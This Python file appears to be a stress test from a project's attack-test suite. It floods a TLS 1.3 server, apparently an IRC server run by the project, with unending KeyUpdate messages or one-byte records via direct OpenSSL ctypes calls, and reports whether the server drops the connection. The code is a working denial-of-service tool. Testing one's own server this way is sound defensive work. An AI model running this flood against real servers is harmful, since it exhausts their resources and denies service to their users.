"""A TLS 1.3 client that does what no library offers: KeyUpdate messages without end (RFC 8446 4.6.3), or records of one byte.

    python -m tests.attack.key_updates PORT SECONDS updates|answered|tiny

It prints how many it sent, and whether the server ended it. The `ssl` module has no way to send them, so this calls the OpenSSL
that the module is linked with. What it sends is made in memory, 64 KiB at a time: its system calls are not what limits it.
"""

from __future__ import annotations

import ctypes
import re
import socket
import ssl
import sys
import time
from pathlib import Path

from tests.attack.tools import dial

_P = ctypes.c_void_p
_NOT_REQUESTED, _REQUESTED = 0, 1
_AT_ONCE = 65536


def _library() -> ctypes.CDLL:
    """The OpenSSL of this interpreter."""
    assert ssl.OPENSSL_VERSION
    found = re.findall(r"\s(/\S*/libssl\S*)", Path("/proc/self/maps").read_text(encoding="utf-8"))
    lib = ctypes.CDLL(found[0] if found else None)
    for name, result, *arguments in (
        ("TLS_client_method", _P),
        ("SSL_CTX_new", _P, _P),
        ("SSL_new", _P, _P),
        ("SSL_set_bio", None, _P, _P, _P),
        ("SSL_set_connect_state", None, _P),
        ("SSL_do_handshake", ctypes.c_int, _P),
        ("SSL_key_update", ctypes.c_int, _P, ctypes.c_int),
        ("SSL_write", ctypes.c_int, _P, ctypes.c_char_p, ctypes.c_int),
        ("SSL_read", ctypes.c_int, _P, ctypes.c_char_p, ctypes.c_int),
        ("BIO_new", _P, _P),
        ("BIO_s_mem", _P),
        ("BIO_read", ctypes.c_int, _P, ctypes.c_char_p, ctypes.c_int),
        ("BIO_write", ctypes.c_int, _P, ctypes.c_char_p, ctypes.c_int),
    ):
        function = getattr(lib, name)
        function.restype, function.argtypes = result, arguments
    return lib


class Flooder:
    """One connection, its TLS made in memory."""

    def __init__(self, port: int) -> None:
        self._lib = lib = _library()
        context = lib.SSL_CTX_new(lib.TLS_client_method())
        self._ssl = lib.SSL_new(context)
        self._in, self._out = lib.BIO_new(lib.BIO_s_mem()), lib.BIO_new(lib.BIO_s_mem())
        lib.SSL_set_bio(self._ssl, self._in, self._out)
        lib.SSL_set_connect_state(self._ssl)
        self.sock = dial(port, 1)
        while lib.SSL_do_handshake(self._ssl) != 1:
            self.sock.sendall(self._made())
            data = self.sock.recv(65536)
            assert data, "the server ended it in the handshake"
            lib.BIO_write(self._in, data, len(data))
        self.sock.sendall(self._made())

    def _made(self) -> bytes:
        buffer = ctypes.create_string_buffer(4 * _AT_ONCE)
        size = self._lib.BIO_read(self._out, buffer, len(buffer))
        return buffer.raw[: max(size, 0)]

    def say(self, text: bytes) -> None:
        self._lib.SSL_write(self._ssl, text, len(text))
        self.sock.sendall(self._made())

    def flood(self, kind: str, seconds: float) -> tuple[int, bool]:
        """How many records the server took, and whether it ended the connection."""
        self.sock.setblocking(False)
        sent, waiting, counts = 0, b"", 0
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            if not waiting:
                counts = 0
                while counts < _AT_ONCE // 27:
                    self._one(kind)
                    counts += 1
                waiting = self._made()
            try:
                done = self.sock.send(waiting)
                waiting = waiting[done:]
                sent += 0 if waiting else counts
            except BlockingIOError:
                time.sleep(0.0005)
            except OSError:
                return sent, True
            self._take()
        return sent, False

    def _one(self, kind: str) -> None:
        lib = self._lib
        if kind == "tiny":
            lib.SSL_write(self._ssl, b"x", 1)
        else:
            lib.SSL_key_update(self._ssl, _REQUESTED if kind == "answered" else _NOT_REQUESTED)
            lib.SSL_do_handshake(self._ssl)

    def _take(self) -> None:
        """Read the answers, so that nobody waits for us."""
        try:
            data = self.sock.recv(65536)
        except OSError:
            return
        self._lib.BIO_write(self._in, data, len(data))
        self._lib.SSL_read(self._ssl, ctypes.create_string_buffer(16384), 16384)


if __name__ == "__main__":
    flooder = Flooder(int(sys.argv[1]))
    flooder.say(b"NICK flooder\r\nUSER f 0 * :f\r\n")
    count, ended = flooder.flood(sys.argv[3], float(sys.argv[2]))
    print(count, "ended" if ended else "kept")
    socket.socket.close(flooder.sock)
